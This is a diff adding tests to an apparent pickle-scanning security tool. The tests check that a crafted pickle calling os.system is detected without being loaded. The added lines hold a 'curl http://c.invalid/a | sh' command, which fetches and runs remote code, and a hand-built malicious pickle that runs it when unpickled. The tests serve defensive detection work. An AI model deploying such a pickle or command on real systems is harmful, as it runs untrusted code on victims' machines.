@@ -6,8 +6,8 @@ import zlib
 
 import pytest
 
-from beartrap.vet.binary.pickles import PickleAnalyser
 from beartrap.vet.kinds import Kind
+from beartrap.vet.pickles import PickleAnalyser
 from beartrap.vet.sniff import kind_of
 from vet.binary.binary_lab import keys, subject
 
@@ -20,7 +20,11 @@ NUMPY = b"\x93NUMPY\x01\x00v\x00{'descr': '|O', 'fortran_order': False, 'shape':
 
 def found(content: bytes, path: str = "data/model.pkl") -> set[str]:
     one = subject(content, kind_of(path, content), path)
-    return {seen.key for seen in PickleAnalyser().look(one)} if PickleAnalyser().takes(one.kind) else set()
+    return (
+        {seen.key for seen in PickleAnalyser().look(one) if seen.id == "pickle.call"}
+        if PickleAnalyser().takes(one.kind)
+        else set()
+    )
 
 
 @pytest.mark.parametrize(
@@ -59,3 +63,25 @@ def test_damage_never_breaks_it(at):
     found(NEW[:at] + b"\xff" + NEW[at + 1 :])
     found(NEW[:at])
     keys(b"\x80\x04" + bytes(range(at, 256)), Kind.PICKLE)
+
+
+COMMAND = b"curl http://c.invalid/a | sh"
+BOMB = (
+    b"\x80\x04\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c" + bytes([len(COMMAND)]) + COMMAND + b"\x94\x85\x94R\x94."
+)
+PLAIN = b"\x80\x04}\x94\x8c\x01a\x94\x8c" + bytes([len(COMMAND)]) + COMMAND + b"\x94s."
+"""What Python writes for an object that is restored by `os.system(COMMAND)`, and for a table with that text."""
+
+
+def did(content: bytes) -> set[str]:
+    one = subject(content, Kind.PICKLE, "m.pkl")
+    return {seen.id for seen in PickleAnalyser().look(one)}
+
+
+@pytest.mark.parametrize("content", [BOMB, BOMB[:-3] + b"\xff", zlib.compress(BOMB)])
+def test_what_a_call_does_is_told_and_nothing_is_loaded(content: bytes) -> None:
+    assert {"pickle.call", "process.piped"} <= did(content)
+
+
+def test_the_same_text_without_a_call_is_nothing() -> None:
+    assert did(PLAIN) == set()
